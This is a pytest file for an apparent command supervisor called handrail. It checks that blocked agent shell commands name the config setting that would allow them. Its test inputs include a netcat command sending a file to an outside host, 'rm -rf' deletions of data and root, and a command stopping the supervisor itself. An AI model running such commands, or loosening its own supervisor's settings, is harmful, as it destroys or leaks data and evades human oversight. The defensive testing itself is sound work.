"""A refusal that a person may overrule names the setting that would let it run."""

import re
from pathlib import Path

import msgspec
import pytest
import yaml

from handrail.config import Config
from handrail.model import Action, Decision, Review
from handrail.review import Reviewer
from handrail.supervise.decision.verdict import overrulable

CASES = Path(__file__).parent.parent.parent / "cases"
HERE = "/workspace/project"
_NAMED = re.compile(r"((?:`[^`]+`(?: and )?)+|a higher number) in `([\w.]+)`")


def reviewed(command: str, config: Config | None = None) -> Review:
    reviewer = Reviewer(config, environ={"HOME": "/home/test"}, see_disk=False)
    return reviewer.review(Action("Bash", {"command": command}, HERE))


def with_setting(said: str) -> Config:
    """The settings of a person who did what a refusal says."""
    settings: dict[str, object] = {}
    for values, key in _NAMED.findall(said):
        names = re.findall(r"`([^`]+)`", values)
        given: object = [HERE if name == "." else name for name in names] if names else 1.0
        for part in reversed(key.split(".")):
            given = {part: given}
        assert isinstance(given, dict)
        settings = merged(settings, given)
    return msgspec.convert(settings, Config)


def merged(one: dict[str, object], other: dict[str, object]) -> dict[str, object]:
    both = {**one, **other}
    for key in one.keys() & other.keys():
        left, right = one[key], other[key]
        if isinstance(left, dict) and isinstance(right, dict):
            both[key] = merged(left, right)
    return both


@pytest.mark.parametrize(
    ("command", "setting"),
    [
        ("npm publish", "`no_publishing` in `step_reviewer.rules.disabled`"),
        ("rm -rf /srv/app/data", "`.` and `/srv/app` in `scope`"),
        ("nc x.example 80 < notes.txt", "`x.example` in `hosts.trusted`"),
    ],
)
def test_the_narrowest_setting_is_named(command: str, setting: str) -> None:
    assert reviewed(command).permitted_by == setting


@pytest.mark.parametrize("command", ["rm -rf /", "handrail serve --stop", "ls", "echo $("])
def test_what_is_critical_or_runs_or_reaches_the_controls_names_none(command: str) -> None:
    assert reviewed(command).permitted_by == ""


def test_a_rule_of_ones_own_is_named() -> None:
    rules = {"step_reviewer": {"rules": {"custom": [
        {"name": "no-deploys", "decision": "block", "says": "it deploys", "commands": ["deploy"]},
    ]}}}  # fmt: skip
    said = reviewed("./deploy now", msgspec.convert(rules, Config)).permitted_by
    assert said == "`no-deploys` in `step_reviewer.rules.disabled`"


@pytest.mark.slow
def test_whoever_sets_what_is_named_lets_it_run() -> None:
    wrong: list[tuple[str, str]] = []
    tried = 0
    for file in sorted(CASES.glob("*.yaml")):
        for command in yaml.safe_load(file.read_text()).get("stop") or ():
            review = reviewed(command)
            if review.decision is not Decision.BLOCK or not overrulable(review):
                continue
            said = review.permitted_by
            tried += 1
            if not said or reviewed(command, with_setting(said)).decision is Decision.BLOCK:
                wrong.append((command, said))
    assert tried > 100
    assert wrong == []
